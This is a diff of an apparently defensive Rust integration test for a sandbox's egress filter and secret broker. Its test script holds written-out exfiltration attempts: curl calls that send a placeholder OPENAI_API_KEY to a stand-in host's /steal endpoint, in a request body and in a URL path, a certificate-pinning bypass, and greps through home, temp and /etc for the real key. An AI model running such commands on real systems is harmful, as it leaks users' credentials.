@@ -246,6 +246,7 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
 print("found", found, "closed", closed > 0)
 "#;
     std::fs::write(world.project().join("search.py"), search).expect("written");
+    std::fs::write(world.project().join("own.pem"), world.internet.root()).expect("written");
     let header = "-H \"Authorization: Bearer $OPENAI_API_KEY\"";
     let ran = world.run(&format!(
         "echo \"[placeholder $OPENAI_API_KEY]\"
@@ -254,6 +255,7 @@ print("found", found, "closed", closed > 0)
          echo '[foreign]'; curl -sS https://{BAD}/steal {header}
          echo '[body]'; curl -sS https://{GOOD}/body -d \"key=$OPENAI_API_KEY\"
          echo '[path]'; curl -sS \"https://{GOOD}/?$OPENAI_API_KEY\"
+         echo '[pinned]'; curl -sS --cacert own.pem https://{GOOD}/pinned
          echo '[plain]'; curl -sS http://{GOOD}/plain {header}
          echo '[search]'; env | grep -E '[R]EALREALREAL'; python3 search.py
          grep -rlaE '[R]EALREALREAL' $HOME /tmp /run /dev/shm /etc 2>/dev/null; echo '[end]'"
@@ -276,12 +278,15 @@ print("found", found, "closed", closed > 0)
     for misused in ["foreign", "body", "path"] {
         assert!(part(misused).contains("egress-secret-misuse"), "{misused}: {}", part(misused));
     }
+    // Only its own authority will do, and the host is one whose TLS must be opened: nothing goes through, and that is said.
+    assert!(!received.contains("/pinned"), "{received}");
     assert!(!part("plain").contains("ECHO"), "{}", part("plain"));
     assert!(part("search").starts_with("found [] closed True"), "{}", part("search"));
     ran.told("environment, egress, broker");
     ran.told("placeholders for: openai (OPENAI_API_KEY)");
     ran.told("used openai");
     let rows = world.shown(&ran);
+    assert!(rows.iter().any(|row| row["rule"] == "not-trusted"), "{rows:#?}");
     let misuse = rows.iter().find(|row| row["about"] == format!("{BAD}:443") && row["rule"] == "secret-misuse");
     assert!(
         misuse.is_some_and(|row| row["detail"]["misuse"]
